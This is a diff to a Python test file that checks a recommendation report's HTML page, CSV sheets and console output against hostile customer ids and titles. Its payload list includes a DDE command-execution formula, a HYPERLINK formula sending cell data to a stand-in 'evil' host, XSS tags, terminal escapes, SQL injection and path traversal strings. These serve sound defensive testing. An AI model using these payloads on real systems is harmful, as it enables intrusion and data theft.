@@ -1,10 +1,13 @@
 """The page as a whole: safe, self-contained, replaced in one step, and honest about layers that are missing."""
 
+import csv
 import html
 import re
 import shutil
 import subprocess
 import sys
+from collections import Counter
+from html.parser import HTMLParser
 
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -12,9 +15,11 @@ import pytest
 from pyspark.sql import SparkSession
 
 from conf.errors import InputError
+from jobs.console.progress import say
+from jobs.records.recommending import Example, MostRecommended
 from jobs.report import report
 from tests.support.layers import reseal
-from tests.support.page import FIGURES, figures_of, page_of, page_without_figures, text_of
+from tests.support.page import FIGURES, figures_of, page_of, page_without_figures, sheet, text_of
 from tests.support.paths import ROOT
 from tests.support.report_folder import ReportFolder
 from tests.support.report_records import HOSTILE
@@ -88,6 +93,89 @@ def test_customers_that_are_text_are_only_words(folder: ReportFolder, sail: Spar
     page = page_without_figures(folder, sail)
     assert "<script" not in page
     assert f"{HOSTILE}20 90.0 % 8 EUR" in text_of(page)
+
+
+# Case 44: ids and titles of customers, as logs and files of ratings may have them.
+HOSTILE_TEXTS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    '=HYPERLINK("http://evil/?"&A2,"x")',
+    "\t=tab",
+    "  =padded",
+    "=1+1\n=2+2",
+    "a\nb",
+    '"quoted"',
+    "a,b",
+    "x;y",
+    "</title><script>alert(6)</script>",
+    '"><img src=x onerror=alert(7)>',
+    "&lt;b&gt;",
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;pwned\x07",
+    "\x1b[2J",
+    "\x9b31m",
+    "\x00",
+    "\u202egnp.exe",
+    "\u2066x",
+    "[red]rich[/red]",
+    "[/oops]",
+    "{{7*7}}",
+    "{% for %}",
+    "$(id)",
+    "' OR 1=1 --",
+    "../../etc/passwd",
+    "ok | md",
+    "007",
+    "1E5",
+    "🎵",
+    "null",
+    "%00",
+    "</svg><b>",
+]
+OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # by a terminal or a browser
+
+
+def elements(page: str) -> Counter[str]:
+    """How often each element is in a page, as a browser reads it."""
+    found: Counter[str] = Counter()
+    parser = HTMLParser()
+    parser.handle_starttag = lambda tag, attributes: found.update([tag])  # type: ignore[method-assign]
+    parser.feed(page)
+    return found
+
+
+def test_hostile_ids_and_titles_reach_no_page_no_sheet_and_no_terminal(
+    recommended: ReportFolder, sail: SparkSession, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Case 44: the page has the elements that it has with plain texts, and each sheet texts that compute nothing."""
+
+    def pages(texts: list[str]) -> str:
+        names = [texts[number % len(texts)] + str(number) for number in range(2000)]
+        scores = pq.read_table(recommended.score_rows)
+        pq.write_table(scores.set_column(0, "customer_id", pa.array(names)), recommended.score_rows)
+        reseal(recommended.score_rows.parent)
+        recommended.with_feature_rows(customer_id=names[:25])
+        most = [MostRecommended(title_id=text, name=text, customers=9) for text in texts]
+        shown = [Example(customer_id=text, history_titles=1, history=[text], recommended=[text]) for text in texts[:5]]
+        recommended.with_recommendations(most_recommended=most, examples=shown)
+        page = page_without_figures(recommended, sail)
+        say(f"report of {'; '.join(texts)}")
+        return page
+
+    plain = pages([f"Song {number}" for number in range(len(HOSTILE_TEXTS))])
+    for texts in (HOSTILE_TEXTS, HOSTILE_TEXTS[::-1]):
+        page = pages(texts)
+        assert elements(page) == elements(plain)
+        assert not OBEYED.search(page) and "<script" not in page and "<img" not in page
+    assert not OBEYED.search(capsys.readouterr().err.replace("\n", ""))
+    for file in (recommended.data.report / "csv").glob("*.csv"):
+        with file.open(encoding="utf-8-sig", newline="") as lines:
+            cells = [cell for row in csv.reader(lines) for cell in row]
+        computed = [cell for cell in cells if re.match(r"\s*[=+@]|\s*-(?![0-9.]+$)", cell)]
+        assert not computed and not any(map(OBEYED.search, cells)), file.name
+    assert "'=1+1 =2+2" in [row["name"] for row in sheet(recommended, "recommended")]
 
 
 def test_page_needs_nothing_from_elsewhere(page: str) -> None:
